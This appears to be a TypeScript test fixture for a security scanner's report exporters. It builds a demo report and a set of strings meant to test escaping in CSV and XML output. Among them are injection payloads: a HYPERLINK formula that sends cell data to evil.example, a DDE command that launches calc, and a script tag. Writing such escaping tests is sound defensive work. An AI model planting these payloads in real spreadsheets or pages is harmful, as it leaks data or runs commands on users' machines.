/**
 * Reports for the per-result formats' tests (csv, ocsf, junit, asff): the demo account with its
 * mute file, and a small report whose names and messages are hostile to spreadsheets and XML.
 */
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { allChecks } from '../../checks/index.js';
import { parseInventory } from '../../src/inventory/io.js';
import { readMuteFile } from '../../src/mute/file.js';
import type { Report, ReportResult } from '../../src/report/model.js';
import { evaluateInventory } from '../../src/scan/evaluate.js';
import { check, report, result, stageArn, EU } from '../securityhub/fixtures.js';

const DEMO = new URL('../../examples/demo-inventory.json', import.meta.url);
const DEMO_MUTES = fileURLToPath(new URL('../../examples/demo-mutes.yaml', import.meta.url));

/** The demo account evaluated with its mute file: every status, muted results, account-level results. */
export async function demoReport(): Promise<Report> {
  const mutes = await readMuteFile(DEMO_MUTES, allChecks.map((c) => c.id));
  return evaluateInventory(parseInventory(JSON.parse(readFileSync(DEMO, 'utf8')), 'demo'), { mutes }, new Date('2026-11-01T12:30:00Z'));
}

/** Names and messages a spreadsheet would take for formulas, and markup XML must keep as text. */
export const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: '+cmd|\' /C calc\'!A0',
  minus: '-2+3',
  at: '@SUM(A1:A9)',
  tab: '\tleading tab',
  cr: '\rleading carriage return',
  script: '<script>alert(1)</script>',
  cdataEnd: 'a]]>b',
  lines: 'first line\nsecond, "quoted" line\r\nthird',
  control: 'bell\u0007 and nul\u0000 and escape\u001b',
} as const;

function hostileResult(name: string, status: ReportResult['status'], message: string, stage: string): ReportResult {
  const base = result('rest-stage-waf', stageArn(EU, 'abcdef1234', stage), status, { name });
  return { ...base, message };
}

/** One result per hostile string, in every status, with a muted one and a change state. */
export function hostileFormatsReport(): Report {
  const entries = Object.entries(HOSTILE);
  const statuses: ReportResult['status'][] = ['FAIL', 'PASS', 'ERROR', 'NOT_APPLICABLE'];
  const results = entries.map(([key, text], i) => hostileResult(text, statuses[i % statuses.length]!, `${text} (${key})`, `stage-${key}`));
  results[0] = { ...results[0]!, muted: { rule: 'accepted-=1+1', reason: '@reason', owner: 'owner@example.com', expires: '2027-01-01' } };
  results[1] = { ...results[1]!, change: 'fixed' };
  results[4] = { ...results[4]!, change: 'new' };
  return report(results, {
    checks: [check('rest-stage-waf', { title: HOSTILE.script, remediation: { text: HOSTILE.formula, cli: HOSTILE.minus, docs: 'https://docs.aws.amazon.com/waf/' } })],
  });
}
